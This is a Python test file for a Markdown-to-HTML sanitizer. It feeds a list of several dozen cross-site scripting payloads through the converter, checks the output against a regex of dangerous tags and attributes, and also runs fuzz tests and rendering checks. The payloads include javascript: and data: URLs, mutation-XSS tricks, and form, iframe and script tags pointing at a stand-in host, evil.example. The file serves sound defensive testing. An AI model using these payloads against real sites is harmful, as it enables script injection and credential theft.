"""What Markdown becomes: HTML that is safe, and laid out as its writer meant it."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.content.markup import html_of, safe

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; java\tscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java&#10;script:alert(1)>)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](y "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "x{: onclick=alert(1) style=position:fixed}",
    "# h {onmouseover=alert(1)}",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<x-foo onclick=alert(1)>x</x-foo>",
    "```html\n<script>alert(1)</script>\n```",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>' ?>",
    "<div markdown=1>\n<script>alert(1)</script>\n</div>",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
]
TAG = re.compile(r"<[^>]*>")
DANGER = re.compile(
    r"<\s*/?\s*(script|style|iframe|object|embed|svg|math|form|input|button|base|meta|link|video|source|x-foo)\b"
    r"|\son\w+\s*=|style\s*=|srcdoc|(?:href|src)=\"\s*(?:javascript|data|vbscript):",
    re.IGNORECASE,
)


def dangers_in(html: str) -> list[str]:
    """What could run, in tags alone: the same words as text of an article are harmless."""
    no_titles = re.sub(r'(title|alt)="[^"]*"', "", html)
    return [tag for tag in TAG.findall(no_titles) if DANGER.search(tag)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_known_attack_leaves_nothing_that_runs(attack: str) -> None:
    assert dangers_in(html_of(attack)[0]) == []
    assert dangers_in(html_of(f"1. a step\n\n   {attack}\n\n| a |\n|---|\n| {attack} |")[0]) == []


@settings(deadline=None)  # a busy machine is no mistake of the parser
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "\n\n", "    ", "> ", "- ", '"', "'", ">", "<", "`", "-->"]), max_size=6
    )
)
def test_attacks_put_together_leave_nothing_that_runs(parts: list[str]) -> None:
    html = html_of("".join(parts))[0]
    assert dangers_in(html) == []
    assert sorted(safe(html)) == sorted(html), "cleaning again takes nothing more away"


def test_what_was_left_out_is_told() -> None:
    assert html_of("<iframe src=x></iframe>\n\n`<form>`")[1] == ("iframe",)


def test_only_classes_with_a_meaning_are_kept() -> None:
    html = html_of('<p class="admonition evil">x</p>\n\n```python\nx = 1\n```')[0]
    assert '<p class="admonition">' in html
    assert '<code class="language-python">' in html


def test_a_placeholder_in_angle_brackets_is_read_as_text() -> None:
    assert "&lt;username&gt;" in html_of("Open C:\\Users\\<username> in <b>Explorer</b>.")[0]


def test_a_backslash_makes_any_sign_plain() -> None:
    assert html_of(r"\<b> \* \| \~ \& \" `\<`")[0] == r'<p>&lt;b&gt; * | ~ &amp; " <code>\&lt;</code></p>'


def test_an_article_does_not_leak_into_the_next() -> None:
    html_of("[^1]\n\n[^1]: a note\n\n*[HTML]: markup\n\n# Same")
    assert html_of("HTML\n\n# Same")[0] == '<p>HTML</p>\n<h1 id="same">Same</h1>'
